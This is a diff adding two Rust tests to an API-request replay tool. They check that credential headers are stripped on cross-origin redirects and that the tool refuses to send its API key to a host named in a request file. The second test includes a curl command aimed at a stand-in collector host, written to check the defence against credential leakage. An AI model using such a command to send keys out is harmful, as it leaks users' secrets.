@@ -236,3 +236,112 @@ fn redaction_takes_the_secret_and_keeps_the_evidence() {
         }
     }
 }
+
+/// A server that answers with a redirect to `to`, and one at `to` that fails: where every header went.
+#[test]
+fn a_redirect_to_another_origin_drops_every_credential_header() {
+    let other = failing("model not found");
+    let target = format!("{}/v2/chat", other.base_url());
+    let first = FaultServer::fixed(response(
+        "307 Temporary Redirect",
+        &[("location", &target), ("content-length", "0")],
+        "",
+    ));
+    let d = util::tempdir();
+    let credentials = [
+        ("api-key", "azure-Kq2Lm9Xp4Tn7Rw1Vb"),
+        ("x-api-key", "xak-Lm9Xp4Tn7Rw1VbZc3"),
+        ("Ocp-Apim-Subscription-Key", "apim-9Xp4Tn7Rw1VbZc3Fz"),
+        ("X-Amz-Security-Token", "amz-Tn7Rw1VbZc3Fz8Kq2"),
+        ("X-Internal-Token", "internal-VbZc3Fz8Kq2Lm9X"),
+    ];
+    let headers: Vec<(&str, &str)> = credentials
+        .iter()
+        .copied()
+        .chain([
+            ("X-Trace", "keep-me"),
+            ("Cookie", "session=cookie-Rw1VbZc3Fz8Kq2Lm"),
+        ])
+        .collect();
+    let req = util::write(
+        d.path(),
+        "req.json",
+        util::envelope(&first.base_url(), "/v2/chat", &headers, &chat()),
+    );
+    util::cli(d.path())
+        .env("CO_API_KEY", KEY)
+        .arg("replay")
+        .arg(&req)
+        .args(["--out", "b.zip", "--secret-header", "X-Internal-Token"])
+        .run()
+        .success();
+    let at_first = String::from_utf8_lossy(&first.requests()[0]).to_ascii_lowercase();
+    let at_other = String::from_utf8_lossy(&other.requests()[0]).to_ascii_lowercase();
+    for (name, value) in credentials {
+        assert!(
+            at_first.contains(&value.to_ascii_lowercase()),
+            "{name} not sent to the request's host"
+        );
+        assert!(
+            !at_other.contains(&value.to_ascii_lowercase()),
+            "{name} followed the redirect:\n{at_other}"
+        );
+    }
+    assert!(
+        !at_other.contains("authorization") && !at_other.contains("cookie"),
+        "{at_other}"
+    );
+    assert!(at_other.contains("x-trace: keep-me") && at_other.contains("command-r-08-2024"));
+    // The headers named secret are masked in the bundle like the others.
+    for (name, text) in texts(&d.path().join("b.zip")) {
+        for (_, v) in credentials {
+            assert!(!text.contains(v), "{name} keeps {v}");
+        }
+    }
+}
+
+#[test]
+fn a_file_cannot_send_the_key_to_a_host_it_names() {
+    let d = util::tempdir();
+    let cmd = format!(
+        "curl https://collector.example.net/v2/chat -H 'Content-Type: application/json' -d '{}'",
+        chat()
+    );
+    let req = util::write(d.path(), "curl.txt", cmd);
+    util::cli(d.path())
+        .env("CO_API_KEY", KEY)
+        .arg("replay")
+        .arg(&req)
+        .args(["--out", "b.zip"])
+        .run()
+        .fails(
+            2,
+            &[
+                "collector.example.net",
+                "--allow-host collector.example.net",
+                "--base-url https://collector.example.net",
+            ],
+        );
+    assert!(!d.path().join("b.zip").exists());
+    // Allowed, it goes there (through a proxy on 127.0.0.1 that stands in for the host).
+    let proxy = failing("unknown model");
+    let cmd = format!(
+        "curl http://collector.example.net/v2/chat -H 'Content-Type: application/json' -d '{}'",
+        chat()
+    );
+    let req = util::write(d.path(), "curl2.txt", cmd);
+    util::cli(d.path())
+        .env("CO_API_KEY", KEY)
+        .env("HTTP_PROXY", proxy.base_url())
+        .env("http_proxy", proxy.base_url())
+        .arg("replay")
+        .arg(&req)
+        .args(["--out", "b.zip", "--allow-host", "collector.example.net"])
+        .run()
+        .success();
+    let sent = String::from_utf8_lossy(&proxy.requests()[0]).into_owned();
+    assert!(
+        sent.contains("collector.example.net") && sent.contains(KEY),
+        "{sent}"
+    );
+}
